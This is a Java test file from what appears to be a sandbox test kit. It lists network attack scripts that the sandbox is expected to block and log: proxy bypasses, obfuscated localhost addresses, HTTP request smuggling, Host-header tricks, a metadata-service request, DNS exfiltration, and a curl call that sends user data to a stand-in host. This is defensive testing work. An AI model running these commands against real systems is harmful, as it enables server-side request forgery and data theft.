package org.jvmfactory.testkit.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.jvmfactory.sandbox.Guarantee.EGRESS_LISTED;
import static org.jvmfactory.sandbox.Guarantee.NETWORK_DENIED;

import java.util.List;
import org.jvmfactory.journal.Event;

/** After the network: to reach a service of the host, or to carry words out. */
final class NetworkAttacks {

    static final List<Attack> ALL = List.of(
            direct(
                    "net-tcp",
                    "a service of the host, without asking the proxy",
                    "curl -s -m 3 --noproxy '*' \"http://127.0.0.1:$PORT/net-tcp\"; curl -s -m 3 --noproxy '*' \"http://localhost:$PORT/net-tcp\""),
            direct("net-udp", "a service of the host by UDP", "send net-udp"),
            direct(
                    "net-dns",
                    "to carry words out as names to be looked up",
                    "send 'net-dns.example.org'; timeout 3 getent ahosts net-dns.example.org >/dev/null && broke 'it was looked up'"),
            proxied(
                    "net-proxy",
                    "a service of the host, through the proxy",
                    "through \"http://127.0.0.1:$PORT/net-proxy\""),
            proxied(
                    "net-tunnel",
                    "a service of the host, through a tunnel of the proxy",
                    "curl -s -m 3 --noproxy '' -p -x \"${HTTP_PROXY:-}\" \"http://127.0.0.1:$PORT/net-tunnel\""),
            proxied(
                    "net-spellings",
                    "a service of the host under another spelling of its address",
                    "for h in localhost 127.1 2130706433 0x7f000001 0177.0.0.1 '[::ffff:127.0.0.1]' 'corpus.factory.internal@127.0.0.1'"
                            + " 127.0.0.1. LOCALHOST.; do through \"http://$h:$PORT/net-spellings\"; done"),
            proxied(
                    "net-smuggled",
                    "a second request behind one that is allowed",
                    "raw \"GET http://corpus.factory.internal:3128/ok HTTP/1.1\\r\\nHost: corpus.factory.internal\\r\\n\\r\\n"
                            + "GET http://127.0.0.1:$PORT/net-smuggled HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n\""),
            proxied(
                    "net-host-header",
                    "another host by a header that differs from the address",
                    "raw \"GET http://corpus.factory.internal:3128/ok HTTP/1.1\\r\\nHost: 127.0.0.1:$OTHER\\r\\n\\r\\n\""
                            + "; raw \"GET /net-host-header HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n\""),
            proxied(
                    "net-redirect",
                    "the key, by having the provider redirect the gateway",
                    "curl -s -m 3 -L --noproxy '' -x \"${HTTP_PROXY:-}\" http://corpus.factory.internal:3128/redirect"),
            proxied(
                            "net-metadata",
                            "the machine's metadata service",
                            "through http://169.254.169.254/latest/meta-data/")
                    .judged(traces -> assertThat(traces.events(Event.EgressDenied.class))
                            .as("it is denied, and that is told")
                            .anyMatch(denied -> denied.host().equals("169.254.169.254"))),
            proxied(
                            "net-exfiltration",
                            "to send what it found to a host of its own",
                            "through \"http://net-exfiltration.example.com/$(id -u)\"; curl -s -m 3 https://net-exfiltration.example.com/")
                    .judged(traces -> assertThat(traces.events(Event.EgressDenied.class))
                            .anyMatch(denied -> denied.host().equals("net-exfiltration.example.com"))));

    private NetworkAttacks() {}

    private static Attack direct(String id, String tries, String script) {
        return Attack.together(id, tries, Stop.of(NETWORK_DENIED), script)
                .judged(traces -> traces.ground().requireNoVisit(id));
    }

    private static Attack proxied(String id, String tries, String script) {
        return Attack.together(id, tries, Stop.of(EGRESS_LISTED), script)
                .judged(traces -> traces.ground().requireNoVisit(id));
    }
}
